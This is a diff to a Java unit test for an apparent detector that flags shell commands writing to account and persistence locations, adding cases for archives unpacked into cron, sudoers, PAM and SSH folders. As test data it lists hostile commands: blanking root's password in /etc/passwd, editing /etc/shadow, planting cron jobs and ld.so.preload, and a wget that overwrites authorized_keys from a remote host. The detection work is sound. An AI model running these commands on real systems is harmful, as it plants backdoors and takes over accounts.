@@ -139,6 +139,16 @@ class CapabilitiesTest {
         assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^root:x:/root::/' /etc/passwd")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "perl -pi -e 's/^www-data:[^:]*:/www-data::/' /etc/shadow")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "rsync /dev/shm/job /var/spool/cron/crontabs/root")).isTrue();
+        // an archive unpacked into a cron, sudoers, PAM or another login's SSH folder
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar xf /var/tmp/j.tar -C /etc/cron.d")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf k.tgz --directory=/root/.ssh")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sudo bsdtar -x -f s.tar -C /etc/sudoers.d/")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -o k.zip -d /home/deploy/.ssh")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "7z x p.7z -o/etc/pam.d")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -czf /backup/cron.tgz -C /etc/cron.d .")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf site.tgz -C /var/www/html")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -l keys.zip")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "7z a -o/etc/cron.d x.7z")).isFalse();
         assertThat(shows(Family.ACCOUNT_WRITE, "split -n 1 /tmp/pre /etc/ld.so.preload")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "wget -q http://198.51.100.9/k -O /home/alice/.ssh/authorized_keys")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "mv /tmp/.p /etc/pam.d/sshd")).isTrue();
